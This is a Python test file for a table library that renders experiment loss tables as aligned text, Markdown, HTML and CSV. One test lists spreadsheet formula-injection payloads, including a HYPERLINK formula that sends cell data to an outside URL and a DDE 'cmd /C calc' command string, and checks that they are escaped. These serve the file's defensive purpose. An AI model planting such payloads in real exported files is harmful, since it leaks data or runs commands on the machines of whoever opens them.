"""One table: aligned for a terminal, safe in Markdown, on a page the same cells."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from losslab import escaping
from losslab.report.page import environment
from losslab.tables import Column, Table, left, name, pairs
from losslab.words import both_ends, width

SCORES = Table((name("loss", least=8), Column("nll", "nats/token"), left("verdict")),
               [("cross_entropy + 0.0001*z_loss", "-1.5", "baseline"), ("mse|x", ("11.25", "3 seeds"), "worse")])


def test_a_terminal_has_aligned_columns_and_cuts_the_middle_of_names():
    assert SCORES.text(rule=True).splitlines() == [
        "loss                           nll, nats/token  verdict",
        "--------------------------------------------------------",
        "cross_entropy + 0.0001*z_loss             -1.5  baseline",
        "mse|x                          11.25 (3 seeds)  worse"]
    painted = SCORES.text(45, indent="  ", paint=lambda column, cell: cell if column.right else f"<{cell}>")
    assert painted.splitlines() == [
        "  loss              nll, nats/token  verdict",
        "  <cross_en…*z_loss>             -1.5  <baseline>",
        "  <mse|x>             11.25 (3 seeds)  <worse>"]
    assert SCORES.only("loss", "verdict").text(5) == "loss      verdict\ncros…oss  baseline\nmse|x     worse"
    assert pairs([("seed", "1"), ("tokens", "2\n")]) == "  seed    1\n  tokens  2\\n" and pairs([]) == ""


def test_markdown_and_a_page_have_the_same_cells():
    assert SCORES.markdown().splitlines() == [
        "| loss | nll, nats/token | verdict |", "| --- | --- | --- |",
        "| `cross_entropy + 0.0001*z_loss` | -1.5 | baseline |", "| mse&#124;x | 11.25 (3 seeds) | worse |"]
    macro = environment().get_template("tables.html.j2").module.table
    page = str(macro(SCORES, "scores", baseline="mse|x")).replace("<wbr>", "")
    assert '<th scope="col">nll<small>nats/token</small></th>' in page
    assert '<tr><th scope="row">cross_entropy + 0.0001*z_loss</th><td>−1.5</td><td class="words">baseline</td>' in page
    assert '<tr class="baseline"><th scope="row">mse|x</th><td>11.25<small>3 seeds</small></td>' in page


@settings(max_examples=60, derandomize=True, deadline=None)
@given(st.lists(st.tuples(st.text(max_size=30), st.text(max_size=8)), max_size=4), st.integers(10, 80))
def test_any_cell_is_one_line_that_ends_nothing(rows, columns):
    table = Table((name("loss", least=5), Column("n")), rows)
    lines = table.text(columns).split("\n")
    assert len(lines) == len(rows) + 1 and all(line.isprintable() for line in lines)
    widest = max([width(row[1].encode("unicode_escape").decode()) for row in rows], default=1)
    assert max(map(width, lines)) <= max(columns, 5 + 2 + widest)
    assert [line.count("|") for line in table.markdown().split("\n")] == [3] * (len(rows) + 2)


@given(st.text(max_size=40), st.integers(1, 30))
def test_both_ends_of_a_name_are_kept(text, columns):
    shown = both_ends(text, columns)
    assert width(shown) <= columns and (shown == text) == (width(text) <= columns or shown == "…" == text)


@pytest.mark.parametrize("text", [
    '=HYPERLINK("http://example.org/?x="&A1,"nll")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1+1", "-A1", "-inf",
    "--opt", "\t=1", "\r=1", "\n=1", " =1", "＝1", "-1 [=A1, 2]", "-0.5 x", "-1\n=1", "-", "+١",
])
def test_text_that_a_spreadsheet_would_compute_is_marked_as_text(text):
    marked = "'" + text.replace("\r", "\n")
    assert escaping.cell(text) == marked
    table = Table((name(text), Column("nll")), [(text, "1.5")])
    assert list(csv.reader(io.StringIO(table.csv(), newline=""))) == [[marked, "nll"], [marked, "1.5"]]


@pytest.mark.parametrize("value", [
    "-0.5", "+1,234.5", "-2.00e+07", "+0.0017 [-0.0044, 0.0079]", "+0.0121 [+0.0098, +0.0144]", "-0.5 ± 0.1 (n=4)",
    "-1.5 %", "–", "", "1-1", "a=b", "'=1", "cross_entropy + 0.0001*z_loss", -0.5, None, True,
])
def test_numbers_with_a_sign_and_other_text_stay_as_they_are(value):
    assert escaping.cell(value) == value and type(escaping.cell(value)) is type(value)


def test_a_carriage_return_begins_no_row():
    text = Table((name("loss"), Column("nll")), [("mse\r=1+1", "1.5"), ("a\r\nb", "2")]).csv()
    assert list(csv.reader(io.StringIO(text, newline="")))[1:] == [["mse\n=1+1", "1.5"], ["a\nb", "2"]]
